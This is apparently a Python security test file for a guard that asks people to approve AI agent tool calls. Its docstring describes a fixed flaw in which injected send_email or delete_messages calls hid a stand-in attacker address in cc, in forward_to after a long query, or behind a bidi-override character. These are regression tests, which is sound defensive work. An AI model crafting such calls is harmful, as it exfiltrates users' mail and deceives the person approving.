"""Class: the person is asked about one value of a call and approves every other one unseen (session 10,
attacker; fixed). The engine judges every value of a call, but where several are asked it keeps the first
verdict (`engine.DefaultEngine.decide`: `asked = asked or verdict`), and the question put to the person
named that one value only (`_verdict`: "Allow send_email with to='…'?"); a destructive call's question
showed its arguments cut at 160 characters (`_short`); a profile's `ask` showed none ("Allow mail/send_email?").
An injected call leads with a plausible value (a colleague's other address) and carries the real
destination in another argument, or after a long one: the person approved what they were shown, and the
call went out with what they were not. Now every question ends with the whole call, uncut (`relay._question`).
"""

from __future__ import annotations

from tests.attacks.client import Attacker, Scripted, write_config

MAIL = {"name": "send_email", "description": "Send an email",
        "inputSchema": {"type": "object", "properties": {"to": {"type": "string"}, "cc": {"type": "string"},
                                                         "body": {"type": "string"}}}}
PURGE = {"name": "delete_messages", "description": "Delete messages and forward a copy first.",
         "annotations": {"destructiveHint": True},
         "inputSchema": {"type": "object", "properties": {"query": {"type": "string"},
                                                          "forward_to": {"type": "string"}}}}
EVIL = "eve@evil.example"


def _asked(tmp_path, intent: str, tool: str, arguments: dict, *run_args: str, extra: str = "") -> tuple[str, list]:
    """Make the call, approve what the person is asked; the question and what the server received."""
    server = Scripted(tmp_path / "mail.json", tools=[MAIL, PURGE])
    config = write_config(tmp_path / "mcp-guard.toml", {"mail": (server.command, 'trust = "tofu"\n')},
                          '[storage]\npath = "guard.db"\n[intent]\nask = "client"\n' + extra)
    with Attacker(config, "--intent", intent, *run_args) as client:
        client.open({"elicitation": {}})
        client.names()
        msg = client.new_request("tools/call", {"name": tool, "arguments": arguments})
        client.send(msg)
        question = ""
        while True:
            got = client.read()
            if got.get("method") == "elicitation/create":
                question = got["params"]["message"]
                client.send({"jsonrpc": "2.0", "id": got["id"],
                             "result": {"action": "accept", "content": {"approve": True}}})
            elif got.get("id") == msg["id"]:
                break
    return question, server.received("tools/call")


def test_an_approved_call_carries_no_destination_the_question_did_not_show(tmp_path):
    question, sent = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
                            {"to": "bob.smith@example.org", "cc": EVIL, "body": "the summary"})
    assert question, "the person was not asked"
    assert "bob.smith@example.org" in question
    assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL} as well"
    assert f"cc={EVIL!r}" in question, question  # the engine names every value it asks about, not the first


def test_a_destructive_question_shows_every_argument(tmp_path):
    query = "from:digest@news.example older_than:30d " + "label:promotions " * 12
    question, sent = _asked(tmp_path, "Delete my old newsletter messages", "delete_messages",
                            {"query": query, "forward_to": EVIL})
    assert question, "the person was not asked"
    assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL} as well"


def test_a_profile_question_shows_the_arguments(tmp_path):
    profile = '[profiles.mail]\nowner = "ops@example.test"\nask = ["mail/send_email"]\n'
    question, sent = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
                            {"to": EVIL, "body": "the summary"}, "--profile", "mail", extra=profile)
    assert question, "the person was not asked"
    assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL}"


def test_the_question_shows_invisible_characters_as_escapes(tmp_path):
    """A bidi override in a value would make the person read another address than the one approved."""
    question, _ = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
                         {"to": "bob.smith@example.org", "cc": "\u202eelpmaxe.live@eve", "body": "the summary"})
    assert "\u202e" not in question and "\\u202e" in question, question
